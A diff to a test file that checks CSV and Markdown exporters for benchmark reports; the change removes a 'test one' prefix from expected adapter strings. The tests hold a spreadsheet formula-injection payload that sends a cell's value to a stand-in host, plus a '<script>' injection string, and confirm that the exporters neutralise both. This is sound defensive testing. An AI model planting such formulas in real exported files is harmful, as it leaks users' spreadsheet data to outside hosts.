@@ -37,10 +37,10 @@ describe('reportsCsv', () => {
     const name = '=HYPERLINK("http://x/?"&A1,"a")';
     const adapter = 'GPU "X", second\nline';
     const csv = reportsCsv([benchReport({ name, adapter })]);
-    expect(csv).toContain(',"test one GPU ""X"", second\nline",');
+    expect(csv).toContain(',"GPU ""X"", second\nline",');
     const [head = [], row = []] = parseCsv(csv);
     expect(row[head.indexOf('model')]).toBe(`'${name}`);
-    expect(row[head.indexOf('adapter')]).toBe(`test one ${adapter}`);
+    expect(row[head.indexOf('adapter')]).toBe(`${adapter}`);
   });
 });
 
@@ -53,7 +53,7 @@ describe('reportsMarkdown', () => {
     expect(text).toMatch(/^### smollm2-135m, q4, made-up weights\n/);
     expect(text).toContain('| test | tokens/s | min–max | of limit |');
     expect(text).toContain('| pp512 | 4300 | 4171–4386 | 33.6 % (arithmetic) | 119 ms |');
-    expect(text).toContain('| adapter | test one Test GPU |');
+    expect(text).toContain('| adapter | Test GPU |');
     expect(text).toContain('commit abc');
     expect(text).toContain('| load | 1.20 s, again 0.310 s |');
     expect(text).toContain('| matmul\\_few gate and up | 30 |');
@@ -62,7 +62,7 @@ describe('reportsMarkdown', () => {
 
   it('has tables that nothing in a report breaks', () => {
     const text = reportsMarkdown([benchReport({ adapter: 'a | b\n\n<script>', name: '*x* ](y)' })]);
-    expect(text).toContain('| adapter | test one a \\| b \\<script\\> |');
+    expect(text).toContain('| adapter | a \\| b \\<script\\> |');
     expect(text).toContain('### \\*x\\* \\](y), q4');
     const lines = text.split('\n').filter((line) => line.startsWith('|'));
     expect(lines.every((line) => line.endsWith('|'))).toBe(true);
